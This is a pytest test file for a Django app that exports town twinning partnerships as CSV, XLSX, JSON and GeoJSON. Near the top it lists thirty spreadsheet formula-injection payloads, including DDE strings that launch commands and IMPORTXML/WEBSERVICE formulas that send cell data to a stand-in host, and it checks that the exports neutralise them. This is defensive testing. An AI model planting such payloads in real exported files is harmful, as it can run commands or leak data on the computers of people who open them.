import csv
import io
import json
from datetime import date

import openpyxl
import pytest

from passerelle.actors.models import Actor
from passerelle.base import clock
from passerelle.partnerships.models import CarrierLink, Doubt, Party, Theme
from passerelle.web.public.export_files import csv_lines
from tests.factories.bodies import make_body
from tests.factories.partnerships import make_partnership, make_source

pytestmark = pytest.mark.django_db

# What spreadsheets run or may run when a cell begins with it (OWASP, CSV Injection), and what hides it.
PAYLOADS = [
    "=1+1",
    '=HYPERLINK("http://example.org","x")',
    "=cmd|' /C calc'!A0",
    '=IMPORTXML(CONCAT("http://example.org/",A1),"//a")',
    '=WEBSERVICE("http://example.org")',
    '=DDE("cmd","/C calc","x")',
    "==1",
    "= 1+1",
    "+1+1",
    "+cmd|' /C calc'!A0",
    "++1",
    "+A1",
    "-1+1",
    "-cmd|' /C calc'!A0",
    "--1",
    "-A1",
    "@SUM(1,1)",
    "@A1",
    "@@x",
    "\t=1+1",
    "\t@SUM(1,1)",
    "\r=1+1",
    "\r\n=1+1",
    "\n=1+1",
    " =1+1",
    "  @SUM(1,1)",
    "|calc",
    "%0A=1+1",
    "＝1+1",
    "＠SUM(1,1)",
]


@pytest.fixture(autouse=True)
def november(monkeypatch):
    monkeypatch.setattr(clock, "today", lambda: date(2026, 11, 22))


def body_of(answer):
    return b"".join(answer.streaming_content)


def table_of(answer, delimiter=";"):
    return list(csv.DictReader(io.StringIO(body_of(answer).decode("utf-8-sig")), delimiter=delimiter))


@pytest.fixture
def bond():
    left = make_body(
        "Hannover", names={"fr": "Hanovre"}, latitude=52.3745, longitude=9.7385, population=545_000
    )
    right = make_body("Rouen", country="FR", latitude=49.4431, longitude=1.0993, population=114_000)
    bond = make_partnership(left, right, since="1966-05", needs_confirmation=True, distance_km=690)
    for number in (1, 2):
        source = make_source(f"https://www.example.org/{number}", read_on=f"2026-1{number}")
        bond.statements.create(source=source, licence="CC0" if number == 1 else "")
    carrier = Actor.objects.create(name="Verein; der „Freunde“", slug="verein", kind="twinning_association")
    CarrierLink.objects.create(partnership=bond, carrier=carrier)
    Theme.objects.create(partnership=bond, code="youth")
    Doubt.objects.create(partnership=bond, code="one_side_only")
    return bond


def test_csv_speaks_the_readers_language_and_carries_codes_behind(client, bond):
    answer = client.get("/de/partnerschaften/export.csv")
    assert answer["Content-Type"] == "text/csv; charset=utf-8"
    assert answer["Content-Disposition"] == 'attachment; filename="partnerschaften-2026-11-22.csv"'
    (row,) = table_of(answer)
    assert row["Eine Seite"] == "Hannover"
    assert row["Land der anderen Seite"] == "Frankreich"
    assert row["Seit"] == "Mai 1966"
    assert row["Quellen"] == "https://www.example.org/1 | https://www.example.org/2"
    assert row["Lizenz der Daten"] == "CC0"
    assert row["Zuletzt gelesen"] == "Dezember 2026"
    assert row["Träger"] == "Verein; der „Freunde“"
    assert row["Adresse"] == f"http://localhost:8000/p/{bond.pk}"
    assert (row["since"], row["type_code"], row["theme_codes"]) == ("1966-05", "partnership", "youth")
    assert (row["left_latitude"], row["right_country_code"]) == ("52,3745", "FR")


def test_each_language_gets_the_file_its_spreadsheet_reads(client, bond):
    french = client.get("/fr/jumelages/export.csv")
    assert french["Content-Disposition"] == 'attachment; filename="jumelages-2026-11-22.csv"'
    assert table_of(french)[0]["Premier côté"] == "Hanovre"
    (english,) = table_of(client.get("/en/partnerships/export.csv"), ",")
    assert (english["One side"], english["left_latitude"]) == ("Hannover", "52.3745")


def test_a_file_holds_exactly_what_the_page_shows_on_all_its_pages_in_its_order(client):
    for year in range(1950, 1990):
        make_partnership(make_body(f"Ort {year}"), make_body(country="FR"), since=str(year))
    make_partnership(make_body(), make_body(country="PL"), since="1960")
    query = {"country": "FR", "sort": "-since", "view": "table", "page": "2", "junk": "1"}
    rows = table_of(client.get("/de/partnerschaften/export.csv", query))
    assert [row["since"] for row in rows] == [str(year) for year in range(1989, 1949, -1)]


def test_only_rows_under_a_licence_can_be_asked_for(client, bond):
    make_partnership()
    for form in ("csv", "json"):
        answer = client.get(f"/de/partnerschaften/export.{form}", {"licence": "CC0"})
        text = body_of(answer).decode("utf-8-sig")
        found = json.loads(text)["partnerships"] if form == "json" else text.strip().split("\r\n")[1:]
        assert len(found) == 1


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_name_runs_as_a_formula(client, payload):
    make_partnership(make_body(payload, slug="adorf"), make_body("Bourg", country="FR"))
    (row,) = table_of(client.get("/de/partnerschaften/export.csv"))
    assert row["Eine Seite"][0] not in "=+-@|%\t\r\n ＝＋－＠"
    workbook = openpyxl.load_workbook(io.BytesIO(body_of(client.get("/de/partnerschaften/export.xlsx"))))
    assert workbook.active["A2"].data_type == "s"


def test_there_are_thirty_payloads():
    assert len(set(PAYLOADS)) == 30


def test_xlsx_has_numbers_as_numbers_and_heads_that_stay(client, bond):
    answer = client.get("/de/partnerschaften/export.xlsx")
    sheet = openpyxl.load_workbook(io.BytesIO(body_of(answer))).active
    heads = [cell.value for cell in sheet[1]]
    values = dict(zip(heads, (cell.value for cell in sheet[2]), strict=True))
    assert sheet.freeze_panes == "B2"
    assert (values["Entfernung in km"], values["left_latitude"], values["since_year"]) == (690, 52.3745, 1966)


def test_json_names_its_fields_alike_in_every_language(client, bond):
    german = json.loads(body_of(client.get("/de/partnerschaften/export.json")))
    french = json.loads(body_of(client.get("/fr/jumelages/export.json")))
    assert german["partnerships"][0].keys() == french["partnerships"][0].keys()
    assert french["partnerships"][0]["left"] == "Hanovre"
    assert french["partnerships"][0]["doubt_codes"] == "one_side_only"


def test_geojson_draws_each_bond_as_a_line_and_each_town_once(client, bond):
    hanover = bond.parties.get(side=0).body
    make_partnership(hanover, make_body("Perpignan", country="FR", latitude=42.6986, longitude=2.8956))
    answer = client.get("/de/partnerschaften/export.geojson")
    assert answer["Content-Type"] == "application/geo+json"
    data = json.loads(body_of(answer))
    lines = [f for f in data["features"] if f["properties"]["kind"] == "partnership"]
    points = [f for f in data["features"] if f["properties"]["kind"] == "town"]
    assert lines[0]["geometry"] == {
        "type": "LineString",
        "coordinates": [[9.7385, 52.3745], [2.8956, 42.6986]],
    }
    assert lines[1]["properties"]["licences"] == "CC0"
    assert sorted(point["properties"]["name"] for point in points) == ["Hannover", "Perpignan", "Rouen"]


def test_a_line_across_the_antimeridian_is_cut_there(client):
    make_partnership(
        make_body("Oststadt", latitude=50.0, longitude=170.0),
        make_body("Weststadt", latitude=40.0, longitude=-170.0),
    )
    (line, *_towns) = json.loads(body_of(client.get("/de/partnerschaften/export.geojson")))["features"]
    assert line["geometry"] == {
        "type": "MultiLineString",
        "coordinates": [[[170.0, 50.0], [180.0, 45.0]], [[-180.0, 45.0], [-170.0, 40.0]]],
    }


def test_a_bond_without_a_position_has_no_line_and_one_of_many_has_many(client):
    bond = make_partnership(make_body("Bevern"), make_body("Macau", country="FR"))
    Party.objects.create(partnership=bond, body=make_body("Ludon", country="FR"), side=1, position=2)
    make_partnership(make_body("Adorf", latitude=None, longitude=None), make_body("Bourg", country="FR"))
    features = json.loads(body_of(client.get("/de/partnerschaften/export.geojson")))["features"]
    lines = {
        f["properties"]["left"]: f["geometry"] for f in features if f["properties"]["kind"] == "partnership"
    }
    assert lines["Adorf"] is None
    assert len(lines["Bevern"]["coordinates"]) == 2


@pytest.mark.parametrize("form", ["csv", "json", "geojson", "xlsx"])
def test_an_empty_selection_is_a_sound_file(client, form):
    content = body_of(client.get(f"/de/partnerschaften/export.{form}", {"since": "1900"}))
    match form:
        case "csv":
            assert content.decode("utf-8-sig").startswith("Eine Seite;")
        case "xlsx":
            assert openpyxl.load_workbook(io.BytesIO(content)).active.max_row == 1
        case _:
            assert list(json.loads(content).values())[-1] == []


def test_an_unknown_form_is_not_found(client):
    assert client.get("/de/partnerschaften/export.exe").status_code == 404


@pytest.mark.parametrize("rows", [3, 30])
def test_a_file_costs_the_same_queries_whatever_the_number_of_rows(client, django_assert_num_queries, rows):
    for _ in range(rows):
        make_partnership()
    client.get("/de/partnerschaften/export.json")  # the counts behind the filters are kept from here on
    with django_assert_num_queries(10):
        body_of(client.get("/de/partnerschaften/export.csv"))


def test_rows_are_written_as_they_come(bond):
    parts = csv_lines(iter([]), "de")
    assert next(parts).startswith(b"\xef\xbb\xbfEine Seite;")
